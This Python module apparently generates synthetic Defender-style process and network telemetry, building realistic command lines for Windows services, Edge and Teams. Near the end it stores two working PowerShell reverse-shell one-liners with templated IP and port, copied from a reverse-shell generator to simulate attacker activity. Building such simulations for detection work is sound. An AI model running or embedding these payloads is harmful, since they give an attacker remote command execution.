"""A device and the rows it records, plus the command lines its processes run."""

from __future__ import annotations

import base64
import random
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from typing import Any

from .catalog import BINARIES, EDGE, EDGE_EXE, SERVER_BUILD, SYSTEM, TEAMS, Account, Binary, Proc


@dataclass
class Device:
    name: str
    device_id: str
    ip: str
    server: bool
    role: str
    rng: random.Random
    day_start: datetime
    process_rows: list[dict[str, Any]] = field(default_factory=list)
    network_rows: list[dict[str, Any]] = field(default_factory=list)
    procs: dict[str, Proc] = field(default_factory=dict)
    used_pids: set[int] = field(default_factory=set)

    @property
    def day_end(self) -> datetime:
        return self.day_start + timedelta(days=1)

    def binary(self, key: str) -> Binary:
        binary = BINARIES[key]
        if binary.os_component and self.server:
            return replace(binary, version=SERVER_BUILD)
        return binary

    def new_pid(self, lo: int = 1_000, hi: int = 30_000) -> int:
        while True:
            pid = self.rng.randrange(lo, hi) // 4 * 4
            if pid not in self.used_pids:
                self.used_pids.add(pid)
                return pid

    def spawn(self, parent: Proc | None, key: str, cmdline: str, at: datetime,
              account: Account | None = None, pid: int | None = None) -> Proc:
        """A process created by *parent* at *at*; one event when *at* is inside the day."""
        if account is None:
            account = parent.account if parent is not None else SYSTEM
        if pid is None:
            pid = self.new_pid()
        proc = Proc(self.binary(key), pid, exact(at), cmdline, account, parent)
        if proc.created >= self.day_start:
            if proc.created >= self.day_end:
                raise ValueError(f"{self.name}: {key} at {proc.created} is after the day")
            self.process_rows.append(self._process_row(proc))
        return proc

    def child(self, parent: Proc, key: str, cmdline: str, account: Account | None = None,
              lo: int = 15, hi: int = 900) -> Proc:
        """A process created shortly (*lo*..*hi* ms) after its parent."""
        return self.spawn(parent, key, cmdline, parent.created + self.ms(lo, hi), account)

    def console(self, proc: Proc) -> Proc:
        """The conhost.exe every console program started outside a console gets."""
        return self.child(proc, "conhost", "\\??\\C:\\Windows\\system32\\conhost.exe "
                          "0xffffffff -ForceV1", lo=2, hi=40)

    def ms(self, lo: int, hi: int) -> timedelta:
        return timedelta(milliseconds=self.rng.randint(lo, hi),
                         microseconds=self.rng.randint(1, 999))

    def connect(self, proc: Proc, at: datetime, host: tuple[str, str], port: int,
                action: str = "ConnectionSuccess", url: bool = True) -> dict[str, Any]:
        """An outbound TCP connection from *proc* to *host* (``(name, ip)``)."""
        remote_url, remote_ip = host
        row = self._network_row(proc, at, action)
        row.update(RemoteIP=remote_ip, RemotePort=port, RemoteUrl=remote_url if url else "",
                   LocalIP=self.ip, LocalPort=self.rng.randint(49_152, 65_535), Protocol="Tcp",
                   LocalIPType="Private", RemoteIPType=ip_type(remote_ip))
        self.network_rows.append(row)
        return row

    def accept(self, proc: Proc, at: datetime, remote_ip: str, local_port: int) -> dict[str, Any]:
        """An inbound TCP connection from *remote_ip* accepted by *proc* on *local_port*."""
        row = self._network_row(proc, at, "InboundConnectionAccepted")
        row.update(RemoteIP=remote_ip, RemotePort=self.rng.randint(49_152, 65_535), RemoteUrl="",
                   LocalIP=self.ip, LocalPort=local_port, Protocol="Tcp", LocalIPType="Private",
                   RemoteIPType=ip_type(remote_ip))
        self.network_rows.append(row)
        return row

    def _network_row(self, proc: Proc, at: datetime, action: str) -> dict[str, Any]:
        at = exact(at)
        if not (self.day_start <= at < self.day_end) or at <= proc.created:
            raise ValueError(f"{self.name}: connection of {proc.name} at {at} is out of range")
        row: dict[str, Any] = {"Timestamp": iso(at), "DeviceId": self.device_id,
                               "DeviceName": self.name, "ActionType": action}
        row.update(initiating_columns(proc))
        return row

    def _process_row(self, proc: Proc) -> dict[str, Any]:
        binary, account = proc.binary, proc.account
        row: dict[str, Any] = {
            "Timestamp": iso(proc.created), "DeviceId": self.device_id, "DeviceName": self.name,
            "ActionType": "ProcessCreated", "FileName": binary.name,
            "FolderPath": binary.path, "SHA1": binary.digest("sha1"),
            "SHA256": binary.digest("sha256"), "MD5": binary.digest("md5"),
            "FileSize": binary.size,
            "ProcessVersionInfoCompanyName": binary.company,
            "ProcessVersionInfoProductName": binary.product,
            "ProcessVersionInfoProductVersion": binary.version,
            "ProcessVersionInfoInternalFileName": binary.internal,
            "ProcessVersionInfoOriginalFileName": binary.original,
            "ProcessVersionInfoFileDescription": binary.description,
            "ProcessId": proc.pid, "ProcessCommandLine": proc.cmdline,
            "ProcessIntegrityLevel": account.integrity,
            "ProcessTokenElevation": account.elevation,
            "ProcessCreationTime": iso(proc.created),
            "AccountDomain": account.domain, "AccountName": account.name,
            "AccountSid": account.sid, "AccountUpn": account.upn,
            "AccountObjectId": account.object_id, "LogonId": account.logon_id,
            "CreatedProcessSessionId": account.session, "IsProcessRemoteSession": False,
        }
        if proc.parent is not None:
            row.update(initiating_columns(proc.parent))
        return row


def initiating_columns(proc: Proc) -> dict[str, Any]:
    binary, account, parent = proc.binary, proc.account, proc.parent
    return {
        "InitiatingProcessSHA1": binary.digest("sha1"),
        "InitiatingProcessSHA256": binary.digest("sha256"),
        "InitiatingProcessMD5": binary.digest("md5"),
        "InitiatingProcessFileName": binary.name,
        "InitiatingProcessFileSize": binary.size,
        "InitiatingProcessVersionInfoCompanyName": binary.company,
        "InitiatingProcessVersionInfoProductName": binary.product,
        "InitiatingProcessVersionInfoProductVersion": binary.version,
        "InitiatingProcessVersionInfoInternalFileName": binary.internal,
        "InitiatingProcessVersionInfoOriginalFileName": binary.original,
        "InitiatingProcessVersionInfoFileDescription": binary.description,
        "InitiatingProcessId": proc.pid,
        "InitiatingProcessCommandLine": proc.cmdline,
        "InitiatingProcessCreationTime": iso(proc.created),
        "InitiatingProcessFolderPath": binary.path,
        "InitiatingProcessParentId": parent.pid if parent else 0,
        "InitiatingProcessParentFileName": parent.name if parent else "",
        "InitiatingProcessParentCreationTime": iso(parent.created) if parent else None,
        "InitiatingProcessAccountDomain": account.domain,
        "InitiatingProcessAccountName": account.name,
        "InitiatingProcessAccountSid": account.sid,
        "InitiatingProcessAccountUpn": account.upn,
        "InitiatingProcessAccountObjectId": account.object_id,
        "InitiatingProcessIntegrityLevel": account.integrity,
        "InitiatingProcessTokenElevation": account.elevation,
        "InitiatingProcessLogonId": account.logon_id,
        "InitiatingProcessSessionId": account.session,
        "IsInitiatingProcessRemoteSession": False,
    }


def exact(moment: datetime) -> datetime:
    """Every timestamp carries microseconds, so its ISO form is always ``...SS.ffffffZ``."""
    return moment if moment.microsecond else moment + timedelta(microseconds=1)


def iso(moment: datetime) -> str:
    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def parse_iso(text: str) -> datetime:
    return datetime.fromisoformat(text.replace("Z", "+00:00"))


def ip_type(ip: str) -> str:
    """Defender's RemoteIPType. The documentation ranges used for C2 are treated as routable
    ("Public"), as Defender reports a real attacker's address."""
    first, second = (int(part) for part in ip.split(".")[:2])
    if first == 10 or (first == 172 and 16 <= second <= 31) or (first, second) == (192, 168):
        return "Private"
    if first == 127:
        return "Loopback"
    return "Public"


def guid(rng: random.Random) -> str:
    text = f"{rng.getrandbits(128):032x}"
    return f"{text[:8]}-{text[8:12]}-4{text[13:16]}-a{text[17:20]}-{text[20:]}"


def encode_command(script: str) -> str:
    """What ``-EncodedCommand`` takes: base64 of the script's UTF-16LE bytes."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


# --- Command lines ------------------------------------------------------------------------

def svchost(group: str, service: str | None = None, p: bool = True) -> str:
    text = f"C:\\Windows\\system32\\svchost.exe -k {group}"
    text += " -p" if p else ""
    return text + (f" -s {service}" if service else "")


def edge_cmd(rng: random.Random, user: str, kind: str) -> str:
    exe = f'"{EDGE_EXE}"'
    trial = f"--field-trial-handle=2096,i,{rng.getrandbits(63)},{rng.getrandbits(63)},262144"
    handle = f"--mojo-platform-channel-handle={rng.randrange(1_800, 9_000)}"
    if kind == "main":
        return f"{exe} --profile-directory=Default"
    if kind == "crashpad":
        data = f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Edge\\User Data"
        return (f'{exe} --type=crashpad-handler "--user-data-dir={data}" /prefetch:4 '
                f'--monitor-self-annotation=ptype=crashpad-handler "--database={data}\\Crashpad" '
                f"--annotation=IsOfficialBuild=1 --annotation=channel= --annotation=plat=Win64 "
                f"--annotation=prod=Edge --annotation=ver={EDGE} "
                f"--initial-client-data=0x{rng.randrange(0x100, 0x300):x},0x"
                f"{rng.randrange(0x100, 0x300):x},0x{rng.randrange(0x100, 0x300):x}")
    if kind == "gpu":
        prefs = base64.b64encode(bytes(rng.choice((0, 0, 0, 1, 2, 16, 64, 224))
                                       for _ in range(72))).decode()
        return (f"{exe} --type=gpu-process --gpu-preferences={prefs} {trial} --lang=en-US "
                f"--service-sandbox-type=none {handle} /prefetch:2")
    if kind == "network":
        return (f"{exe} --type=utility --utility-sub-type=network.mojom.NetworkService "
                f"--lang=en-US --service-sandbox-type=none {trial} {handle} /prefetch:3")
    if kind == "storage":
        return (f"{exe} --type=utility --utility-sub-type=storage.mojom.StorageService "
                f"--lang=en-US --service-sandbox-type=service {trial} {handle} /prefetch:8")
    client = rng.randrange(5, 60)
    return (f"{exe} --type=renderer --lang=en-US --js-flags=--ms-user-locale= "
            f"--device-scale-factor=1.25 --num-raster-threads=4 "
            f"--enable-main-frame-before-activation --renderer-client-id={client} "
            f"--time-ticks-at-unix-epoch=-{rng.randrange(10**15, 10**16)} "
            f"--launch-time-ticks={rng.randrange(10**9, 10**11)} {trial} {handle} /prefetch:1")


def webview_cmd(rng: random.Random, user: str, kind: str) -> str:
    exe = f'"{BINARIES["msedgewebview2"].path}"'
    data = (f"C:\\Users\\{user}\\AppData\\Local\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\"
            f"Microsoft\\MSTeams\\EBWebView")
    if kind == "main":
        return (f'{exe} --embedded-browser-webview=1 --webview-exe-name=ms-teams.exe '
                f'--webview-exe-version={TEAMS} --user-data-dir="{data}" --noerrdialogs '
                f"--embedded-browser-webview-dpi-awareness=2 --enable-features=SharedArrayBuffer "
                f"--lang=en-US --mojo-named-platform-channel-pipe="
                f"{rng.randrange(4_000, 30_000)}.{rng.randrange(100, 30_000)}."
                f"{rng.getrandbits(63)}")
    return (f'{exe} --type=renderer --embedded-browser-webview=1 --webview-exe-name=ms-teams.exe '
            f'--user-data-dir="{data}" --lang=en-US --renderer-client-id={rng.randrange(4, 40)} '
            f"--mojo-platform-channel-handle={rng.randrange(1_800, 9_000)} /prefetch:1")


# Copied command lines (sources and licences in samples/README.md).
REVSHELLS_PS2 = (  # 0dayCTF/reverse-shell-generator "PowerShell #2", MIT
    "$client = New-Object System.Net.Sockets.TCPClient('{ip}',{port});$stream = "
    "$client.GetStream();[byte[]]$bytes = 0..65535|%{{0}};while(($i = $stream.Read($bytes, 0, "
    "$bytes.Length)) -ne 0){{;$data = (New-Object -TypeName System.Text.ASCIIEncoding)."
    "GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback"
    " + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);"
    "$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()}};$client.Close()")
REVSHELLS_PAYLOAD = (  # 0dayCTF/reverse-shell-generator "PowerShell #3 (Base64)" payload, MIT
    '$client = New-Object System.Net.Sockets.TCPClient("{ip}",{port});$stream = '
    "$client.GetStream();[byte[]]$bytes = 0..65535|%{{0}};while(($i = $stream.Read($bytes, 0, "
    "$bytes.Length)) -ne 0){{;$data = (New-Object -TypeName System.Text.ASCIIEncoding)."
    "GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback"
    ' + "PS " + (pwd).Path + "> ";$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);'
    "$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()}};$client.Close()")
DOCS_PWSH_ENCODED = ("pwsh -EncodedCommand "
                     "ZABpAHIAIAAiAEMAOgBcAFAAcgBvAGcAcgBhAG0AIABGAGkAbABlAHMAIgAgAA==")
DOCS_GET_WINEVENT = 'powershell.exe -Command "& {Get-WinEvent -LogName Security}"'
DOCS_UPDATE_HELP = ('powershell.exe -NoProfile -NonInteractive -Command '
                    '"Update-Help -Module Microsoft.PowerShell*"')
POWERSHELL_EXE = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


